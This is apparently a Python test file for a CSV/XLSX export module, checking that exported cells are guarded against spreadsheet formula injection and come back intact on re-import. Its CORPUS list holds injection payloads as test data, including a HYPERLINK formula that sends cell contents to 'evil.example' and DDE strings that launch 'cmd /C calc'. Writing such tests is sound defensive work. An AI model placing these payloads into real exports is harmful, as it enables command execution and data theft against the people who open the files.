"""Whatever somebody writes, a spreadsheet reads it as text; and what was written comes back."""

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any
from uuid import UUID
from zipfile import ZipFile
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import load_workbook

from dibs.exports import ExportColumn, ExportKind, ExportTable, ShowFacts, ShowReader, guard, unguard
from dibs.exports.table import PluginColumn
from dibs.item_import import read_items_text
from dibs_export.making import make_file

CORPUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1",
    "-1+1|cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1",
    " =1+1",
    "\u3000＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "\u200b=1",
    "\ufeff=1",
    "\u00a0=1",
    "a;=1+1",
    "a,=cmd|'/C calc'!A0",
    "a\t=1",
    "a\r\n=1",
    'a";=1+1;"',
    "a|@SUM(1)",
    "﹦1+1",
    "−1",
    '=DDE("cmd";"/C calc";"")',
    "%0A=1",
]
HARMLESS = [
    "sold 12",
    "A12",
    "12.50",
    "Dress - linen",
    "you+me",
    "a=b",
    "mail me@here",
    "x'",
    "",
    "12-13",
    "😍 sold 12",
]
TEXT = st.text(
    st.sampled_from("=+-@\t\r\n '\",;|a１＝＋－＠\u200b\u3000é😍") | st.characters(exclude_categories=["Cs"])
)
NO_NUL = TEXT.map(lambda text: text.replace("\0", ""))
ZONE = ZoneInfo("UTC")
TRIGGERS = set("=+-@\t\r\0＝＋－＠﹦﹢﹣﹫−")


def reader() -> ShowReader:
    facts = ShowFacts(UUID(int=1), "Friday", "ended", False, datetime.now(UTC), None, None)
    return ShowReader(UUID(int=1), facts, ZONE, "USD", datetime.now(UTC), None)


def table_of(cells: list[Any], *columns: ExportColumn) -> ExportTable:
    """A table with one column of these cells, or with several columns of rows."""

    async def rows(_: ShowReader) -> AsyncIterator[dict[str, Any]]:
        for cell in cells:
            yield cell if columns else {"cell": cell}

    kind = ExportKind("test", "Test", rows)
    used = columns or (ExportColumn("cell"),)
    return ExportTable("export", kind, tuple(PluginColumn("export", column) for column in used))


async def written(table: ExportTable, form: str, **more: Any) -> bytes:
    file, _, _ = await make_file(reader(), table, form, **more)
    with file:
        file.seek(0)
        return file.read()


async def csv_rows(cells: list[Any], *columns: ExportColumn) -> list[list[str]]:
    content = (await written(table_of(cells, *columns), "csv")).decode()
    return list(csv.reader(io.StringIO(content, newline="")))


async def xlsx_rows(cells: list[Any], *columns: ExportColumn) -> list[list[Any]]:
    content = await written(table_of(cells, *columns), "xlsx")
    with ZipFile(io.BytesIO(content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet and "<hyperlink" not in sheet
    return load_workbook(io.BytesIO(content)).get_sheet_by_index(0).to_python()


def seen_by_a_spreadsheet(line: str, separator: str) -> list[str]:
    """The cells that a program sees that splits at another separator and heeds quotes only where a cell begins."""
    return [cell.strip(' "\u3000\u200b\ufeff\u00a0') for cell in line.split(separator)]


@pytest.mark.parametrize("text", CORPUS)
async def test_the_corpus_is_text_in_both_formats(text: str) -> None:
    _, [cell] = await csv_rows([text])
    assert cell[0] == "'" or cell[0] not in TRIGGERS
    assert unguard(cell) == text
    rows = await xlsx_rows([text])
    assert all(isinstance(cell, str) for row in rows for cell in row)


@pytest.mark.parametrize("text", CORPUS)
@pytest.mark.parametrize("separator", [";", ",", "\t", "|"])
async def test_no_cell_is_a_formula_for_a_program_that_splits_elsewhere(text: str, separator: str) -> None:
    content = (await written(table_of([f"x{text}", text, f"a{separator} {text}{separator}"]), "csv")).decode()
    for line in content.replace("\r", "\n").split("\n"):
        assert not [cell for cell in seen_by_a_spreadsheet(line, separator) if cell[:1] in TRIGGERS and cell]


@pytest.mark.parametrize("text", HARMLESS)
async def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert guard(text) == text
    rows = await csv_rows([text, "end"])
    assert rows[1] == [text]


@settings(deadline=None)
@given(TEXT)
def test_taking_the_guard_off_gives_back_what_went_in(text: str) -> None:
    assert unguard(guard(text)) == text
    assert unguard(guard(guard(text))) == guard(text)  # exactly once


@settings(deadline=None)
@given(st.lists(NO_NUL, min_size=1, max_size=5))
async def test_csv_comes_back_cell_by_cell(texts: list[str]) -> None:
    rows = await csv_rows(texts)
    assert [unguard(cell) for [cell] in rows[1:]] == texts
    assert not [cell for [cell] in rows if cell[:1] in TRIGGERS and cell]


@settings(deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1), min_size=1, max_size=5))
async def test_xlsx_comes_back_as_texts(texts: list[str]) -> None:
    rows = await xlsx_rows([text.replace("\ufffe", "").replace("\uffff", "") or "x" for text in texts])
    wanted = [text.replace("\ufffe", "").replace("\uffff", "") or "x" for text in texts]
    assert [str(row[0]) for row in rows[1:]] == wanted


async def test_every_line_of_csv_ends_as_the_standard_says_and_every_cell_is_quoted() -> None:
    content = await written(table_of(['say "hi"', "two\nlines"]), "csv")
    assert content == b'"cell"\r\n"say ""hi"""\r\n"two\nlines"\r\n'
    assert (await written(table_of(["é"]), "csv", bom=True)).startswith(b'\xef\xbb\xbf"cell"')


NUMBERS = (
    ExportColumn("n", "integer"),
    ExportColumn("m", "money"),
    ExportColumn("t", "time"),
    ExportColumn("b", "boolean"),
)


async def test_numbers_are_numbers_and_times_carry_their_offset() -> None:
    noon = datetime(2026, 3, 14, 12, tzinfo=UTC)
    row = {"n": -3, "m": Decimal("-12.50"), "t": noon, "b": True}
    assert (await csv_rows([row], *NUMBERS))[1] == ["-3", "-12.50", "2026-03-14T12:00:00+00:00", "true"]
    assert (await xlsx_rows([row], *NUMBERS))[1] == [-3.0, -12.5, "2026-03-14T12:00:00+00:00", "true"]
    assert (await csv_rows([dict.fromkeys("nmtb")], *NUMBERS))[1] == ["", "", "", ""]


async def test_what_is_no_number_is_text_in_a_column_of_numbers_too() -> None:
    row = {"n": "=1+1", "m": "-1+1|cmd", "t": "@x", "b": "+1"}
    assert (await csv_rows([row], *NUMBERS))[1] == ["'=1+1", "'-1+1|cmd", "'@x", "'+1"]
    assert (await xlsx_rows([row], *NUMBERS))[1] == ["=1+1", "-1+1|cmd", "@x", "+1"]


async def test_a_very_long_text_is_cut_for_a_sheet_and_a_very_long_number_is_text() -> None:
    rows = await xlsx_rows([{"n": 10**20, "m": Decimal(5), "t": "x" * 40_000, "b": None}], *NUMBERS)
    assert rows[1][0] == str(10**20) and len(rows[1][2]) == 32_767


async def test_a_column_that_raises_is_empty_and_noted() -> None:
    broken = ExportColumn("broken", "text", lambda row: row["nothing"])
    table = table_of([{"n": 1}, {"n": 2}], ExportColumn("n", "integer"), broken)
    content = await written(table, "csv")
    assert content == b'"n","broken"\r\n"1",""\r\n"2",""\r\n'
    assert table.failures["export"] == 2 and isinstance(table.problems["export"], KeyError)


ITEM_TEXT = st.text(st.sampled_from("=+-@ '\"ab12＝;,"), min_size=1, max_size=12)


@settings(deadline=None)
@given(ITEM_TEXT, ITEM_TEXT)
async def test_items_that_go_out_come_back_the_same(number: str, title: str) -> None:
    """Import of an export: exactly one guard comes off. Spaces around a cell don't count in an item list."""
    number, title = f"a{number.strip()}".strip(), title.strip()
    columns = (ExportColumn("item_number"), ExportColumn("title"), ExportColumn("quantity", "integer"))
    row = {"item_number": number, "title": title, "quantity": 3}
    content = (await written(table_of([row], *columns), "csv")).decode()
    [back] = read_items_text(content).rows
    assert back.item is not None, back.faults
    assert (back.item.item_number, back.item.title, back.item.quantity) == (number, title, 3)
